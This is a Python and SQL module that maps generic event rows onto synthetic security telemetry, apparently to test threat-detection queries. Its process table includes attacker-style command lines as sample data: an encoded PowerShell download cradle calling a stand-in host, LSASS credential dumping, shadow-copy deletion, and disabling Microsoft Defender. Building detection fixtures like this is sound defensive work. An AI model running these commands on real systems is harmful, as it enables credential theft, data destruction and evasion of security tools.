"""The driver tables seen as telemetry, once for Spark and once as SQL text for the oracle.

``events`` carries no security telemetry; this mapping gives its rows the canonical columns.
``k`` is the integer in ``props``.
"""

from __future__ import annotations

import base64

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..schemas import TABLE_SCHEMAS, Telemetry
from ..vocab import CONTROL, LOGON, NETWORK, PROCESS


def _b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


# (parent image, image, command line, image path), chosen by k % 50: pattern rows first.
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
PROCESS_SHAPES = [
    ("WINWORD.EXE", "powershell.exe", "powershell.exe -w hidden -enc " + _b64("IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')"), _POWERSHELL),
    ("EXCEL.EXE", "cmd.exe", "cmd.exe /c whoami", r"C:\Windows\System32\cmd.exe"),
    ("CcmExec.exe", "powershell.exe", "powershell.exe -EncodedCommand " + _b64("Get-Process | Where-Object CPU"), _POWERSHELL),
    ("explorer.exe", "powershell.exe", "powershell.exe -nop -e " + _b64("Get-ChildItem C:/Users -Recurse"), _POWERSHELL),
    ("cmd.exe", "rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full", r"C:\Windows\System32\rundll32.exe"),
    ("wininit.exe", "lsass.exe", r"E:\Kiosk\agent\lsass.exe", r"E:\Kiosk\agent\lsass.exe"),
    ("cmd.exe", "procdump.exe", "procdump.exe -ma lsass.exe out.dmp", r"E:\kit\procdump.exe"),
    ("services.exe", "cmd.exe", r"cmd.exe /c hostname > \\localhost\ADMIN$\out7.txt", r"C:\Windows\System32\cmd.exe"),
    ("services.exe", "powershell.exe", "powershell.exe -File inventory.ps1", _POWERSHELL),
    ("powershell.exe", "7z.exe", r"7z.exe a C:\Windows\Temp\pack.7z E:\Shares\*", r"C:\Program Files\7-Zip\7z.exe"),
    ("explorer.exe", "tar.exe", r"tar.exe -cf C:\ProgramData\b.tar notes", r"C:\Windows\System32\tar.exe"),
    ("OUTLOOK.EXE", "WINWORD.EXE", "WINWORD.EXE /n Timesheet.docm", r"C:\Program Files\Office\WINWORD.EXE"),
    ("OUTLOOK.EXE", "WINWORD.EXE", "WINWORD.EXE /n Notes.docx", r"C:\Program Files\Office\WINWORD.EXE"),
    ("cmd.exe", "whoami.exe", "whoami /all", r"C:\Windows\System32\whoami.exe"),
    ("cmd.exe", "net.exe", 'net group "Domain Admins" /domain', r"C:\Windows\System32\net.exe"),
    ("cmd.exe", "nltest.exe", "nltest /domain_trusts", r"C:\Windows\System32\nltest.exe"),
    ("cmd.exe", "vssadmin.exe", "vssadmin delete shadows /for=E: /quiet", r"C:\Windows\System32\vssadmin.exe"),
    ("cmd.exe", "bcdedit.exe", "bcdedit /set {default} recoveryenabled no", r"C:\Windows\System32\bcdedit.exe"),
    ("cmd.exe", "vssadmin.exe", "vssadmin list shadows", r"C:\Windows\System32\vssadmin.exe"),
    ("cmd.exe", "taskkill.exe", "taskkill /f /im MsMpEng.exe", r"C:\Windows\System32\taskkill.exe"),
    ("cmd.exe", "sc.exe", "sc stop WinDefend", r"C:\Windows\System32\sc.exe"),
    ("powershell.exe", "powershell.exe", "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", _POWERSHELL),
    ("services.exe", "MsMpEng.exe", "", r"C:\ProgramData\Microsoft\MsMpEng.exe"),
    ("services.exe", "svchost.exe", "svchost.exe -k netsvcs", r"C:\Windows\System32\svchost.exe"),
    ("explorer.exe", "net.exe", r"net use Q: \\STORE2\C$ /user:ops", r"C:\Windows\System32\net.exe"),
] + [
    (("explorer.exe", "svchost.exe", "chrome.exe")[i % 3], ("chrome.exe", "notepad.exe", "Teams.exe", "code.exe", "CcmExec.exe")[i % 5], f"app{i % 5}.exe --run {i}", rf"C:\Apps\app{i % 5}.exe")
    for i in range(25)
]
_VERBS = ("get", "list", "describe", "attach", "detach", "create", "delete", "update")
_RESOURCES = ("iam:user-policy", "iam:access-key", "s3:bucket", "ec2:instance", "cloudtrail:trail")
_LOGON_TYPES = (2, 3, 10, 7, 5)
_NET_IMAGES = ("powershell.exe", "chrome.exe", "cmd.exe", "svchost.exe")
_PORTS = (80, 443, 8080)


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """One driver table; instants are read as UTC whatever the session was set to."""
    spark.conf.set("spark.sql.session.timeZone", "UTC")
    df = spark.read.parquet(f"{sf_dir}/{name}.parquet")
    for field in df.schema.fields:
        if field.dataType.typeName() == "timestamp_ntz":
            df = df.withColumn(field.name, F.col(field.name).cast("timestamp"))
    return df


_DIMENSION = (
    "k long, parent_image string, image string, command string, path string, logon_kind int, verb string, "
    "resource string, net_image string, port int, address string, rbac_resource string, rbac_role string"
)


def _dimension(spark: SparkSession) -> DataFrame:
    """Everything that depends on ``k`` alone: a hundred rows, joined rather than inlined."""
    address = lambda k: ("10.1.2.3", "8.8.8.8", f"45.155.204.{k % 10}", "192.168.0.7", "1.1.1.1")[k % 5]
    return spark.createDataFrame(
        [(k, *PROCESS_SHAPES[k % len(PROCESS_SHAPES)], _LOGON_TYPES[k % 5], _VERBS[k % 8], _RESOURCES[k // 8 % 5],
          _NET_IMAGES[k % 4], _PORTS[k % 3], address(k), ("rolebindings", "clusterrolebindings", "pods/exec")[k % 3],
          ("cluster-admin", "admin", "view", "edit")[k % 4]) for k in range(100)], _DIMENSION)


def events(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = table(spark, sf_dir, "events").withColumn(
        "k", F.regexp_extract("props", "([0-9]+)", 1).cast("long"))
    return rows.join(F.broadcast(_dimension(spark)), "k", "left")


def _pick(values, index: Column) -> Column:
    return F.get(F.array(*[F.lit(v) for v in values]), index.cast("int"))


def _text(*parts) -> Column:
    return F.concat(*[p if isinstance(p, Column) else F.lit(p) for p in parts])


def _canonical(df: DataFrame, event_type: str, **columns: Column) -> DataFrame:
    base = {
        "timestamp": F.col("ts"), "event_type": F.lit(event_type), "source": F.lit("driver"),
        "source_ref": _text("event=", F.col("event_id").cast("string"),
                            ";kind=", F.col("kind")),
        "device": _text("H", (F.col("user_id") % 20).cast("string")),
        "user": _text("u", F.col("user_id").cast("string")),
    }
    chosen = {**base, **columns}
    return df.withColumn("kind", F.col("event_type")).select(*[
        chosen[f.name].cast(f.dataType).alias(f.name) if f.name in chosen
        else F.expr(f"CAST('' AS {f.dataType.simpleString()}) AS `{f.name}`")
        for f in TABLE_SCHEMAS[event_type].fields
    ])


def logons(ev: DataFrame) -> DataFrame:
    return _canonical(
        ev.where(F.col("event_type").isin("error", "click", "signup")), LOGON,
        event_id=_text("l", F.col("event_id").cast("string")),
        source_ip=_text("10.0.0.", (F.col("user_id") % 200).cast("string")),
        source_device=_text("H", (F.col("k") % 20).cast("string")),
        action=F.when(F.col("kind") == "error", "failure").otherwise("success"),
        failure_reason=F.when(F.col("kind") == "error", "bad password").otherwise(""),
        logon_type=F.col("logon_kind"))


def controls(ev: DataFrame) -> DataFrame:
    target = _text("u", ((F.col("user_id") * 7 + F.col("k")) % 15).cast("string"))
    return _canonical(
        ev, CONTROL, event_id=_text("c", F.col("event_id").cast("string")),
        source=F.lit("cloudtrail_mgmt"), user=target,
        actor=_text("u", F.col("user_id").cast("string")), verb=F.col("verb"), resource_type=F.col("resource"),
        resource_name=F.when(F.col("k") % 3 == 0, "").otherwise(
            _text("r", (F.col("k") % 11).cast("string"))),
        target_actor=target, role_ref=_text("policy", (F.col("k") % 7).cast("string")),
        decision=F.when(F.col("kind") == "error", "denied").when(F.col("kind") == "signup", "failed")
        .otherwise("allowed"),
        source_ip=_text("10.0.0.", (F.col("user_id") % 200).cast("string")))


def rbac_controls(ev: DataFrame) -> DataFrame:
    """The same events as Kubernetes audit rows: bindings and pod execs."""
    return _canonical(
        ev, CONTROL, event_id=_text("b", F.col("event_id").cast("string")),
        source=F.lit("k8s_audit"), actor=_text("u", (F.col("user_id") % 15).cast("string")),
        verb=F.when(F.col("k") % 3 == 2, "exec").otherwise("create"), resource_type=F.col("rbac_resource"),
        resource_name=_text("n", (F.col("k") % 11).cast("string")),
        resource_namespace=F.lit("default"),
        role_ref=F.col("rbac_role"),
        actor_groups=F.when(F.col("k") % 5 == 0, "system:masters,system:authenticated")
        .otherwise("system:authenticated"),
        target_actor=F.when(F.col("k") % 3 == 2, "").when(F.col("k") % 10 == 0, "system:masters")
        .otherwise(_text("u", ((F.col("user_id") + F.col("k")) % 15).cast("string"))),
        decision=F.lit("allowed"))


def network(ev: DataFrame) -> DataFrame:
    k = F.col("k")
    return _canonical(
        ev.where(F.col("event_type").isin("click", "view")), NETWORK,
        event_id=_text("n", F.col("event_id").cast("string")),
        process_name=F.col("net_image"), process_id=F.col("event_id") % 500,
        process_guid=F.when(k % 2 == 0, _text("sysmon:p", (F.col("event_id") - 1 - k % 3).cast("string"))).otherwise(""),
        remote_ip=F.col("address"), remote_port=F.col("port"), protocol=F.lit("tcp"),
        direction=F.when(k % 10 == 9, "inbound").otherwise("outbound"),
        remote_url=F.when(k % 6 == 0, _text("http://x.test/", k.cast("string"))).otherwise(""))


def processes(ev: DataFrame) -> DataFrame:
    k, n = F.col("k"), F.col("event_id")
    return _canonical(
        ev.where(F.col("event_type").isin("view", "purchase")), PROCESS,
        event_id=_text("p", n.cast("string")), process_id=n % 500, parent_process_id=(n * 3) % 500,
        parent_process_name=F.col("parent_image"), process_name=F.col("image"),
        command_line=F.col("command"), file_path=F.col("path"),
        sha256=_text("h", (k % 13).cast("string")),
        signer=F.when(k % 10 == 0, "").otherwise("Vendor"),
        signature_status=F.when(k % 10 == 0, "unsigned").otherwise("valid"),
        process_guid=F.when(k % 2 == 0, _text("sysmon:p", n.cast("string"))).otherwise(""),
        parent_process_guid=F.when(k % 4 == 0, _text("sysmon:p", (n - 1 - k % 7).cast("string"))).otherwise(""))


def telemetry(spark: SparkSession, sf_dir: str, rbac: bool = False) -> Telemetry:
    ev = events(spark, sf_dir)
    control = controls(ev)
    if rbac:
        control = control.unionByName(rbac_controls(ev))
    return Telemetry(processes(ev), network(ev), logons(ev), control)


# ----------------------------------------------------------------------------- SQL text


def _case(values, index: str) -> str:
    quoted = lambda v: str(v) if isinstance(v, int) else "'" + v.replace("'", "''") + "'"
    return f"(CASE {index} " + " ".join(f"WHEN {i} THEN {quoted(v)}" for i, v in enumerate(values)) + " END)"


_EV = """ev AS (SELECT event_id AS n, epoch_us(ts) AS us, user_id, event_type AS kind, value,
  CAST(regexp_extract(props, '([0-9]+)', 1) AS BIGINT) AS k FROM events)"""
_CORE = """us, 'H' || (user_id % 20) AS device, 'u' || user_id AS "user",
  'event=' || n || ';kind=' || kind AS source_ref"""
_LOGON = f"""logon AS (SELECT 'l' || n AS event_id, 'logon' AS event_type, 'driver' AS source, {_CORE},
  '10.0.0.' || (user_id % 200) AS source_ip, 'H' || (k % 20) AS source_device,
  CASE WHEN kind = 'error' THEN 'failure' ELSE 'success' END AS action,
  CASE WHEN kind = 'error' THEN 'bad password' ELSE '' END AS failure_reason,
  {_case(_LOGON_TYPES, 'k % 5')} AS logon_type
  FROM ev WHERE kind IN ('error', 'click', 'signup'))"""
_CONTROL = f"""control AS (SELECT 'c' || n AS event_id, 'control' AS event_type,
  'cloudtrail_mgmt' AS source, us, 'H' || (user_id % 20) AS device,
  'event=' || n || ';kind=' || kind AS source_ref, 'u' || ((user_id * 7 + k) % 15) AS "user",
  'u' || user_id AS actor, '' AS actor_groups, {_case(_VERBS, 'k % 8')} AS verb,
  {_case(_RESOURCES, '(k // 8) % 5')} AS resource_type,
  CASE WHEN k % 3 = 0 THEN '' ELSE 'r' || (k % 11) END AS resource_name, '' AS resource_namespace,
  'u' || ((user_id * 7 + k) % 15) AS target_actor, 'policy' || (k % 7) AS role_ref,
  CASE kind WHEN 'error' THEN 'denied' WHEN 'signup' THEN 'failed' ELSE 'allowed' END AS decision,
  '10.0.0.' || (user_id % 200) AS source_ip FROM ev)"""
_RBAC = f"""rbac AS (SELECT 'b' || n AS event_id, 'control' AS event_type, 'k8s_audit' AS source, {_CORE},
  'u' || (user_id % 15) AS actor,
  CASE WHEN k % 5 = 0 THEN 'system:masters,system:authenticated' ELSE 'system:authenticated' END AS actor_groups,
  CASE WHEN k % 3 = 2 THEN 'exec' ELSE 'create' END AS verb,
  {_case(('rolebindings', 'clusterrolebindings', 'pods/exec'), 'k % 3')} AS resource_type,
  'n' || (k % 11) AS resource_name, 'default' AS resource_namespace,
  {_case(('cluster-admin', 'admin', 'view', 'edit'), 'k % 4')} AS role_ref,
  CASE WHEN k % 3 = 2 THEN '' WHEN k % 10 = 0 THEN 'system:masters' ELSE 'u' || ((user_id + k) % 15) END AS target_actor,
  'allowed' AS decision, '' AS source_ip FROM ev)"""
_NETWORK = f"""network AS (SELECT 'n' || n AS event_id, 'network' AS event_type, 'driver' AS source, {_CORE},
  {_case(_NET_IMAGES, 'k % 4')} AS process_name, n % 500 AS process_id,
  CASE WHEN k % 2 = 0 THEN 'sysmon:p' || (n - 1 - k % 3) ELSE '' END AS process_guid,
  CASE k % 5 WHEN 0 THEN '10.1.2.3' WHEN 1 THEN '8.8.8.8' WHEN 2 THEN '45.155.204.' || (k % 10)
    WHEN 3 THEN '192.168.0.7' ELSE '1.1.1.1' END AS remote_ip,
  {_case(_PORTS, 'k % 3')} AS remote_port, 'tcp' AS protocol,
  CASE WHEN k % 10 = 9 THEN 'inbound' ELSE 'outbound' END AS direction,
  CASE WHEN k % 6 = 0 THEN 'http://x.test/' || k ELSE '' END AS remote_url
  FROM ev WHERE kind IN ('click', 'view'))"""
_PROCESS = f"""process AS (SELECT 'p' || n AS event_id, 'process' AS event_type, 'driver' AS source, {_CORE},
  n % 500 AS process_id, (n * 3) % 500 AS parent_process_id,
  {_case([s[0] for s in PROCESS_SHAPES], f'k % {len(PROCESS_SHAPES)}')} AS parent_process_name,
  {_case([s[1] for s in PROCESS_SHAPES], f'k % {len(PROCESS_SHAPES)}')} AS process_name,
  {_case([s[2] for s in PROCESS_SHAPES], f'k % {len(PROCESS_SHAPES)}')} AS command_line,
  {_case([s[3] for s in PROCESS_SHAPES], f'k % {len(PROCESS_SHAPES)}')} AS file_path,
  'h' || (k % 13) AS sha256, CASE WHEN k % 10 = 0 THEN '' ELSE 'Vendor' END AS signer,
  CASE WHEN k % 10 = 0 THEN 'unsigned' ELSE 'valid' END AS signature_status,
  CASE WHEN k % 2 = 0 THEN 'sysmon:p' || n ELSE '' END AS process_guid,
  CASE WHEN k % 4 = 0 THEN 'sysmon:p' || (n - 1 - k % 7) ELSE '' END AS parent_process_guid
  FROM ev WHERE kind IN ('view', 'purchase'))"""
_SQL = {"logon": _LOGON, "control": _CONTROL, "rbac": _RBAC, "network": _NETWORK, "process": _PROCESS}


def with_tables(*names: str, recursive: bool = False) -> str:
    """``WITH`` clause text that defines the named telemetry tables over ``events``."""
    head = "WITH RECURSIVE " if recursive else "WITH "
    return head + ",\n".join([_EV, *[_SQL[n] for n in names]])


PUBLIC_IP_SQL = "(remote_ip NOT LIKE '10.%' AND remote_ip NOT LIKE '192.168.%' AND remote_ip <> '')"
